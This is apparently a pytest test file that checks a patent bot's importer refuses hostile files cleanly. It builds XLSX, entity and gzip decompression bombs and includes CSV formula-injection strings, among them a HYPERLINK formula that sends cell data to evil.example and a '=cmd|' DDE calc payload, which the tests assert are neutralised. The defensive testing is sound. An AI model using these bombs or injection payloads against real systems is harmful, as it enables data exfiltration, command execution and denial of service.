"""Hostile and careless import files, as an operator would feed them to ``python run_bot.py import``:
Chinese Excel's GB18030 CSV, over-long fields, XLSX decompression / row / column / entity bombs, bad
rows late in a big file, formula text; and the base library's Chinese headers. Each file either
imports completely or changes nothing, with a message and an exit code, never a traceback."""
from __future__ import annotations

import csv
import io
import json
import subprocess
import sys
import time
import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook

from bot.config import PROJECT_ROOT
from bot.io.importer import STANDARD_COLUMNS


def run(data_dir: Path, *args: str, timeout: float = 120, db_url: str | None = None) -> subprocess.CompletedProcess:
    env = {"DATA_DIR": str(data_dir), "SEED_CORPUS": "0", "PATH": "/usr/bin:/bin"}
    if db_url:
        env["DATABASE_URL"] = db_url
    return subprocess.run([sys.executable, str(PROJECT_ROOT / "run_bot.py"), *args], env=env, capture_output=True,
                          text=True, timeout=timeout, cwd=data_dir)


def exported(data_dir: Path, db_url: str | None = None) -> tuple[dict[str, dict[str, str]], Path]:
    """What ``run_bot.py export`` writes: the CSV's rows by id, and the XLSX's path."""
    out = run(data_dir, "export", "--out", "out", db_url=db_url)
    assert out.returncode == 0, out.stderr
    paths = [Path(line.strip()) for line in out.stdout.splitlines()[1:]]
    csv_path = next(p for p in paths if p.suffix == ".csv")
    rows = {r["id"]: r for r in csv.DictReader(io.StringIO(csv_path.read_bytes().decode("utf-8-sig")))}
    return rows, next(p for p in paths if p.suffix == ".xlsx")


def refused(out: subprocess.CompletedProcess, *words: str) -> None:
    assert out.returncode == 1, (out.returncode, out.stdout, out.stderr)
    assert "Traceback" not in out.stderr + out.stdout
    assert "nothing imported" in out.stderr
    for w in words:
        assert w in out.stderr, (w, out.stderr)


def rows_csv(n: int) -> list[dict[str, str]]:
    return [{"pub_no": f"CN{300000000 + i}A", "title": f"一种茶叶加工装置{i}", "abstract": "本发明公开了一种装置。",
             "institution": "福建农林大学", "grant_date": "2021-05-06"} for i in range(n)]


def write_csv(path: Path, rows: list[dict], encoding: str = "utf-8-sig", columns=STANDARD_COLUMNS) -> None:
    with open(path, "w", encoding=encoding, newline="") as f:
        w = csv.DictWriter(f, fieldnames=columns)
        w.writeheader()
        w.writerows(rows)


# --- encodings, late bad rows, long fields -----------------------------------------------------------

def test_a_gb18030_csv_with_a_bad_row_late_imports_nothing_then_everything_once_fixed(tmp_path, db_url):
    rows = rows_csv(1500)
    rows[1199]["grant_date"] = "2021-13-45"  # file line 1201: after the first 1,000 rows
    path = tmp_path / "基础库.csv"
    write_csv(path, rows, encoding="gb18030")  # what Chinese Excel writes as "CSV"
    out = run(tmp_path, "import", str(path), db_url=db_url)
    refused(out, "line 1201", "grant_date", "1 of 1500 rows")
    assert exported(tmp_path, db_url)[0] == {}  # the first 1,000 rows were not committed either
    rows[1199]["grant_date"] = "2021-12-31"
    write_csv(path, rows, encoding="gb18030")
    out = run(tmp_path, "import", "--json", str(path), db_url=db_url)
    rep = json.loads(out.stdout)
    assert out.returncode == 0 and rep["added"] == 1500 and rep["encoding"] == "gb18030" and rep["written"]
    got, _ = exported(tmp_path, db_url)
    assert got["CN300001199A"]["title"] == "一种茶叶加工装置1199" and got["CN300001199A"]["institution"] == "福建农林大学"


def test_text_in_no_known_encoding_is_refused_with_its_line(tmp_path):
    path = tmp_path / "mixed.csv"
    path.write_bytes("title,abstract\n一种装置,摘要\n".encode() + b"bad\xff\x80row,x\n")
    out = run(tmp_path, "import", str(path))
    refused(out, "line 3", "neither UTF-8 nor GB18030")
    assert exported(tmp_path)[0] == {}


def test_over_long_fields_are_reported_by_line_not_a_csv_error(tmp_path):
    rows = rows_csv(3)
    rows[1]["claims"] = "权" * 150_000          # past the csv module's 131,072 default
    path = tmp_path / "long.csv"
    write_csv(path, rows)
    refused(run(tmp_path, "import", str(path)), "line 3", "claims is longer than 100000")
    rows[1]["claims"] = "权" * 1_500_000        # past any sane field
    write_csv(path, rows)
    refused(run(tmp_path, "import", str(path)), "line 3", "unreadable CSV")
    assert exported(tmp_path)[0] == {}


# --- XLSX bombs, built here ------------------------------------------------------------------------------

_NS = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
_RELS_NS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def make_xlsx(path: Path, sheet_data: bytes | None = None, shared: bytes | None = None, *,
              shared_chunks: int = 0) -> None:
    """A minimal workbook, streamed part by part: ``sheet_data`` is the inside of <sheetData>,
    ``shared`` the sharedStrings part; ``shared_chunks`` MB of one repeated string appended to it."""
    types = ('<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
             '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
             '<Default Extension="xml" ContentType="application/xml"/>'
             '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.'
             'spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/'
             'vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/><Override PartName="/xl/sharedStrings.xml" '
             'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/></Types>')
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("[Content_Types].xml", types)
        z.writestr("_rels/.rels", f'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/'
                   f'2006/relationships"><Relationship Id="rId1" Type="{_RELS_NS}/officeDocument" '
                   f'Target="xl/workbook.xml"/></Relationships>')
        z.writestr("xl/workbook.xml", f'<?xml version="1.0"?><workbook {_NS} xmlns:r="{_RELS_NS}"><sheets>'
                   f'<sheet name="s" sheetId="1" r:id="rId1"/></sheets></workbook>')
        z.writestr("xl/_rels/workbook.xml.rels", f'<?xml version="1.0"?><Relationships xmlns="http://schemas.'
                   f'openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="{_RELS_NS}/'
                   f'worksheet" Target="worksheets/sheet1.xml"/><Relationship Id="rId2" Type="{_RELS_NS}/'
                   f'sharedStrings" Target="sharedStrings.xml"/></Relationships>')
        z.writestr("xl/worksheets/sheet1.xml", f'<?xml version="1.0"?><worksheet {_NS}><sheetData>'.encode()
                   + (sheet_data or b'<row r="1"><c r="A1" t="s"><v>0</v></c></row>') + b"</sheetData></worksheet>")
        with z.open("xl/sharedStrings.xml", "w", force_zip64=True) as f:
            if shared is not None:
                f.write(shared)
            else:
                f.write(f'<?xml version="1.0"?><sst {_NS}><si><t>title</t></si>'.encode())
                block = b"<si><t>" + b"A" * 1_000_000 + b"</t></si>"
                for _ in range(shared_chunks):
                    f.write(block)
                f.write(b"</sst>")


BOMBS = {
    # one 1 MB string 60 times: 60 MB of XML in ~60 KB
    "shared_strings": (dict(shared_chunks=60), "compressed"),
    # the last row of the sheet, so a reader pads a million empty rows
    "far_row": (dict(sheet_data=b'<row r="1"><c r="A1" t="s"><v>0</v></c></row><row r="1048576">'
                                b'<c r="A1048576" t="s"><v>0</v></c></row>'), "rows"),
    # 300,000 empty rows
    "many_rows": (dict(sheet_data=b'<row r="1"><c r="A1" t="s"><v>0</v></c></row>' + b"<row/>" * 300_000), "rows"),
    # a cell in the last column, so every row is padded to 16,384 cells
    "far_column": (dict(sheet_data=b'<row r="1"><c r="A1" t="s"><v>0</v></c><c r="XFD1" t="s"><v>0</v></c></row>'),
                   "XFD1"),
    # entity expansion (billion laughs) in the shared strings
    "entities": (dict(shared=b'<?xml version="1.0"?><!DOCTYPE sst [<!ENTITY a "aaaaaaaaaa">'
                             b'<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>'
                             b'<sst ' + _NS.encode() + b'><si><t>&b;</t></si></sst>'), "DTD"),
    "not_a_zip": (None, "not an XLSX"),
}


@pytest.mark.parametrize("bomb", sorted(BOMBS))
def test_xlsx_bombs_are_refused_before_parsing(tmp_path, bomb):
    kwargs, words = BOMBS[bomb]
    path = tmp_path / f"{bomb}.xlsx"
    if kwargs is None:
        path.write_bytes(b"PK\x03\x04 this is not a zip")
    else:
        make_xlsx(path, **kwargs)
    assert path.stat().st_size < 2_000_000
    started = time.monotonic()
    out = run(tmp_path, "import", str(path))
    refused(out, "refused", words)
    assert time.monotonic() - started < 30  # process start-up included; the checks take milliseconds
    assert exported(tmp_path)[0] == {}


def test_a_small_honest_xlsx_built_the_same_way_imports(tmp_path):
    path = tmp_path / "ok.xlsx"
    make_xlsx(path, sheet_data=b'<row r="1"><c r="A1" t="s"><v>0</v></c></row>'
                               + '<row r="2"><c r="A2" t="inlineStr"><is><t>一种装置</t></is></c></row>'.encode())
    out = run(tmp_path, "import", str(path))
    assert out.returncode == 0, out.stderr
    assert [r["title"] for r in exported(tmp_path)[0].values()] == ["一种装置"]


# --- the base library's Chinese headers, formula text, and the export's round trip ---------------------

BASE_LIBRARY_HEADERS = ["公开（公告）号", "专利名称", "申请（专利权）人", "专利类型", "申请日", "授权公告日", "法律状态",
                        "发明（设计）人", "IPC分类号", "摘要", "所在县（市）区"]
FORMULA_TITLE = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'
BASE_LIBRARY_ROWS = [
    ["CN201910000001A", FORMULA_TITLE, "福州大学", "发明专利", "2019-01-02", "2021年5月6日", "有权",
     "+张三;李四", "H01M4/36", "本发明公开了一种正极材料。", "鼓楼区"],
    ["CN202020000002U", "@SUM(1+1)", "闽江学院;福州某公司", "实用新型", "2020/03/04", "20200901", "-1+2",
     "王五", "A23F3/06", "本实用新型公开了一种茶叶烘干装置。", "闽侯县"],
    ["CN303000003S", "茶具（外观）", "福州大学", "", "2021-07-08", "", "有权", "\t=cmd|' /C calc'!A0", "",
     "外观设计。", ""],
]


def _cells_start_like_formulas(values) -> list:
    return [v for v in values if isinstance(v, str) and v[:1] in ("=", "+", "-", "@", "\t", "\r")]


def test_base_library_headers_import_and_the_export_neither_runs_formulas_nor_loses_anything(tmp_path):
    src = tmp_path / "base.csv"
    with open(src, "w", encoding="utf-8-sig", newline="") as f:
        csv.writer(f).writerows([BASE_LIBRARY_HEADERS, *BASE_LIBRARY_ROWS])
    out = run(tmp_path, "import", str(src))
    assert out.returncode == 0, out.stderr
    rows, xlsx = exported(tmp_path)
    a, b, c = rows["CN201910000001A"], rows["CN202020000002U"], rows["CN303000003S"]
    # codes and ISO dates in the CSV; the owner (专利权人) is the institution; the type from the column
    # or, when empty, from the publication number's kind code
    assert (a["patent_type"], a["filing_date"], a["grant_date"], a["institution"], a["county"]) == (
        "invention", "2019-01-02", "2021-05-06", "福州大学", "鼓楼区")
    assert (b["patent_type"], b["filing_date"], b["institution"], b["applicant"]) == (
        "utility_model", "2020-03-04", "闽江学院", "闽江学院;福州某公司")
    assert c["patent_type"] == "design"
    # formula text is quoted, not live: in the CSV …
    raw = list(csv.reader(io.StringIO(next(xlsx.parent.glob("*.csv")).read_bytes().decode("utf-8-sig"))))
    assert not [cell for row in raw for cell in _cells_start_like_formulas(row)]
    assert a["title"] == "'" + FORMULA_TITLE and a["inventors"] == "'+张三;李四" and b["legal_status"] == "'-1+2"
    # … and in the XLSX people open: no formula cell anywhere, Chinese headers and values, real dates
    wb = load_workbook(xlsx)
    cells = [cell for ws in wb.worksheets for row in ws.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    assert not _cells_start_like_formulas(cell.value for cell in cells)
    sheet = wb["专利"]
    head = [cell.value for cell in sheet[1]]
    by_id = {r[0]: dict(zip(head, r)) for r in sheet.iter_rows(min_row=2, values_only=True)}
    first = by_id["CN201910000001A"]
    assert first["专利名称"] == "'" + FORMULA_TITLE and first["专利类型"] == "发明" and first["名称由摘要生成"] == "否"
    assert first["申请日"].date().isoformat() == "2019-01-02" and first["授权公告日"].year == 2021
    # both files re-import into an empty database as the same patents, field for field
    for name in (xlsx, next(xlsx.parent.glob("*.csv"))):
        fresh = tmp_path / f"fresh-{name.suffix[1:]}"
        fresh.mkdir()
        out = run(fresh, "import", str(name))
        assert out.returncode == 0, out.stderr
        assert exported(fresh)[0] == rows, name.suffix


def test_an_unknown_patent_type_is_reported_by_line(tmp_path):
    src = tmp_path / "base.csv"
    bad = [list(r) for r in BASE_LIBRARY_ROWS]
    bad[2][3] = "发明创造"
    with open(src, "w", encoding="utf-8", newline="") as f:
        csv.writer(f).writerows([BASE_LIBRARY_HEADERS, *bad])
    refused(run(tmp_path, "import", str(src)), "line 4", "patent_type '发明创造'")
    assert exported(tmp_path)[0] == {}


def test_a_gzip_bomb_is_refused_while_unpacking(tmp_path):
    import gzip

    path = tmp_path / "bomb.jsonl.gz"
    with gzip.open(path, "wb", compresslevel=9) as f:
        f.write(b'{"title": "x"}\n')
        chunk = b" " * (1 << 20)
        for _ in range(300):  # 300 MB of blanks in about 300 KB
            f.write(chunk)
    assert path.stat().st_size < 1_000_000
    refused(run(tmp_path, "import", str(path)), "refused", "unpacks to more than 256 MB")
    assert exported(tmp_path)[0] == {}
